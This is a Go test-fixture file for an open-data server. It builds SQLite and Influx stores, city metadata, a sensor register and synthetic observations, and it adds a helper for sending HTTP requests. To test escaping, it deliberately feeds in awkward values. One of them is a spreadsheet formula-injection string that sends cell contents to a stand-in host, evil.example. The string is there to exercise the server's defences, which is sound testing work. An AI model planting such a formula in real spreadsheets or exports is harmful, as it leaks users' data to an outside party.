package test

import (
	"bytes"
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"sluice/books"
	"sluice/opendata"
	"sluice/opendata/query"
	"sluice/store"
	"sluice/store/influx"
	"sluice/store/sqlite"
	"sluice/test/entered"
)

// plaza is an open-data server over a store and books of its own.
type plaza struct {
	t     *testing.T
	books books.Dir
	write func(context.Context, []store.Observation) error
	read  query.Store
	log   bytes.Buffer
	base  string
	stop  func()
}

// inStores runs a test over both stores.
func inStores(t *testing.T, f func(*testing.T, *plaza)) {
	t.Run("sqlite", func(t *testing.T) { f(t, newPlaza(t)) })
	t.Run("influx", func(t *testing.T) {
		db := newInflux(t)
		s, err := influx.Open(influx.Config{URL: db.url, Org: "city", Bucket: "city/autogen"})
		if err != nil {
			t.Fatal(err)
		}
		q := &plaza{t: t, books: books.Dir(t.TempDir()), write: s.Write, read: s}
		q.fill()
		q.open(opendata.Config{URL: "https://data.portalba.example"})
		f(t, q)
	})
}

func newPlaza(t *testing.T) *plaza {
	t.Helper()
	path := filepath.Join(t.TempDir(), "store.db")
	w, err := sqlite.Open(t.Context(), path)
	if err != nil {
		t.Fatal(err)
	}
	r, err := sqlite.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := r.Close(); err != nil {
			t.Error(err)
		}
		if err := w.Close(); err != nil {
			t.Error(err)
		}
	})
	q := &plaza{t: t, books: books.Dir(t.TempDir()), write: w.Write, read: r}
	q.fill()
	q.open(opendata.Config{URL: "https://data.portalba.example"})
	return q
}

// open serves, again after a stop.
func (q *plaza) open(cfg opendata.Config) {
	q.t.Helper()
	cfg.HTTP = "127.0.0.1:0"
	s, err := opendata.Open(cfg, q.read, q.books, slog.New(slog.NewTextHandler(&q.log, nil)))
	if err != nil {
		q.t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(q.t.Context())
	done := make(chan error, 1)
	go func() { done <- s.Run(ctx) }()
	q.base = "http://" + s.Addr()
	stopped := false
	q.stop = func() {
		if stopped {
			return
		}
		stopped = true
		cancel()
		if err := <-done; err != nil {
			q.t.Error(err)
		}
	}
	q.t.Cleanup(q.stop)
}

// dusk is the end of the last window.
var dusk = time.Date(2026, 3, 29, 20, 0, 0, 0, time.UTC)

// formula would be run by a spreadsheet.
const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`

// long is a name that no line holds.
var long = strings.Repeat("Llanfairpwllgwyngyllgogerychwyrndrobwll", 3)

// fill writes books of a city that is as awkward as books can be, and two days of
// observations around a night of 23 hours.
func (q *plaza) fill() {
	q.t.Helper()
	put := func(name string, v any) {
		q.t.Helper()
		if err := q.books.PutJSON(name, v); err != nil {
			q.t.Fatal(err)
		}
	}
	put("city.json",
		books.City{ID: "portalba", Name: "Portalba", Timezone: "Europe/Madrid", Languages: []string{"ca"},
			Policy: "sha256:00"})
	put("streams.json", []books.Stream{
		{
			ID: "steps", Title: map[string]string{"en": formula, "ca": "Passos <b>&amp; " + long}, Every: "PT1H",
			Timezone: "Europe/Madrid", Unit: "device",
			Measures: []books.Measure{{Name: "devices", Unit: "device", Of: "distinct(unit)", PublicFrom: 47,
				TypicalError: 6}},
			Cells: []books.Cell{{ID: "a/bike", Zone: "a", Category: "bike"},
				{ID: "a/foot", Zone: "a", Category: "foot"}, {ID: "b/foot", Zone: "b", Category: "foot"}},
			Decision: "1", From: "2026-01-01", Until: "2026-12-31", Licence: "CC-BY-4.0", Plan: "sha256:01",
		},
		{
			ID: "noise", Title: map[string]string{"es": "Ruido"}, Every: "PT15M", Timezone: "Europe/Madrid",
			Unit: "none",
			Measures: []books.Measure{{Name: "level", Unit: "dB(A)", Of: "mean(laeq)"},
				{Name: "peak", Unit: "dB(A)", Of: "quantile(laeq, 0.9)"}},
			Cells: []books.Cell{{ID: "b", Zone: "b"}}, Decision: "2", From: "2026-01-01", Until: "2026-12-31",
			Licence: "CC0-1.0", Plan: "sha256:02",
		},
	})
	put("decisions.json", []books.Decision{
		{ID: "1", Title: map[string]string{"en": "+1+1"}, State: "in_force", From: "2026-01-01", Until: "2026-12-31",
			YAML: "decision: \"1\"\n", Explain: map[string]string{"en": "Who\n---\nDevices.\n"}},
		{ID: "2", Title: map[string]string{"en": "Noise"}, State: "suspended", From: "2026-01-01", Until: "2026-12-31",
			Votes: []books.Vote{{Member: "anna", Name: "Anna", Key: "SHA256:x", Verified: true}}},
	})
	alive := true
	put("register.json", books.Register{Sensors: []books.Sensor{
		{ID: "s-1", Owner: "@acme", Kind: "counter", Topic: "city/v1/acme/s-1/up", Zone: "a", Registered: "2026-01-01",
			Contact: "-2+3", Purpose: map[string]string{"en": "\tcount"}, Alive: &alive,
			Fields: []books.Field{{Name: "device", Class: "identifier", Fate: "counted", Decision: "1"},
				{Name: "note", Class: "free-text", Fate: "dropped"}}},
		{ID: "s-2", Owner: long, Kind: "meter", Zone: "b", Registered: "2026-01-01",
			Fields: []books.Field{{Name: "laeq", Class: "measurement", Fate: "kept", Decision: "2"}}},
	}, Homes: []books.Homes{{Kind: "meter", Zone: "b", Number: 12}}})
	if err := q.books.Put("zones.geojson", []byte(`{"type":"FeatureCollection","features":[
{"type":"Feature","id":"a","properties":{"name":"Àrea <A>"},"geometry":{"type":"Polygon","coordinates":[[[2.1,41.3],[2.2,41.3],[2.2,41.4],[2.1,41.4],[2.1,41.3]]]}},
{"type":"Feature","id":2,"properties":{"id":"b","name":"=B `+long+`"},"geometry":{"type":"MultiPolygon","coordinates":[[[[2.2,41.3],[2.3,41.3],[2.3,41.4],[2.2,41.3]]]]}}]}`)); err != nil {
		q.t.Fatal(err)
	}
	var ledger bytes.Buffer
	prev := ""
	for n := range 5 {
		raw, err := json.Marshal(books.Entry{N: int64(n + 1), Day: fmt.Sprintf("2026-03-%02d", 25+n), Gateway: "edge-1",
			Decision: "1", Plan: "sha256:01", Unit: "device", Kind: "reserve", Epsilon: 0.5, Delta: 1e-6, Cap: 1,
			Left: 0.5, PrevSHA256: prev})
		if err != nil {
			q.t.Fatal(err)
		}
		ledger.Write(append(raw, '\n'))
		prev = books.Hash(string(raw))
	}
	if err := q.books.Put("ledger.jsonl", ledger.Bytes()); err != nil {
		q.t.Fatal(err)
	}
	q.release(dusk.Add(-48*time.Hour), dusk)
}

// release stores what was seen between two instants; the same instants always the same.
func (q *plaza) release(from, to time.Time) {
	q.t.Helper()
	var list []store.Observation
	for at := from; at.Before(to); at = at.Add(time.Hour) {
		for i, c := range []string{"a/bike", "a/foot", "b/foot"} {
			zone, category, _ := strings.Cut(c, "/")
			o := store.Observation{
				Stream: "steps", Start: at, End: at.Add(time.Hour), Every: "PT1H", Cell: c, Zone: zone,
				Category: category, Measure: "devices", Status: store.Published,
				Unit: "device", Decision: "1", Policy: "sha256:00", Mechanism: "laplace", Epsilon: 0.5, Scale: 2,
				Threshold: 40.25, Ledger: 1,
			}
			v := float64(100*i + at.Hour())
			low, high := v-6, v+6
			switch {
			case at.Hour() < 5:
				o.Status, o.Reason = store.Withheld, "few"
			case at.Hour() == 6 && i == 0:
				o.Status = store.NoData
			default:
				o.Value, o.Low, o.High = &v, &low, &high
			}
			list = append(list, o)
		}
		for quarter := range 4 {
			for _, m := range []string{"level", "peak"} {
				start := at.Add(time.Duration(quarter) * 15 * time.Minute)
				v := 50 + float64(start.Hour())/3
				list = append(list, store.Observation{
					Stream: "noise", Start: start, End: start.Add(15 * time.Minute), Every: "PT15M", Cell: "b",
					Zone: "b", Measure: m, Status: store.Published,
					Value: &v, Low: &v, High: &v, Unit: "dB(A)", Decision: "2", Policy: "sha256:00",
				})
			}
		}
	}
	q.publish(list)
}

// publish stores rows and enters them in the books.
func (q *plaza) publish(list []store.Observation) {
	q.t.Helper()
	if err := q.write(q.t.Context(), list); err != nil {
		q.t.Fatal(err)
	}
	slices.SortStableFunc(list, func(a, b store.Observation) int {
		return cmp.Or(cmp.Compare(a.Stream, b.Stream), a.Start.Compare(b.Start))
	})
	if err := entered.Enter(q.books, list); err != nil {
		q.t.Fatal(err)
	}
}

// ask sends one request as a client that can do nothing by itself.
func (q *plaza) ask(method, path string, header http.Header) (*http.Response, []byte) {
	q.t.Helper()
	req, err := http.NewRequestWithContext(q.t.Context(), method, q.base+path, nil)
	if err != nil {
		q.t.Fatal(err)
	}
	if header != nil {
		req.Header = header
	}
	resp, err := (&http.Transport{DisableCompression: true, DisableKeepAlives: true}).RoundTrip(req)
	if err != nil {
		q.t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		q.t.Fatal(err)
	}
	return resp, body
}
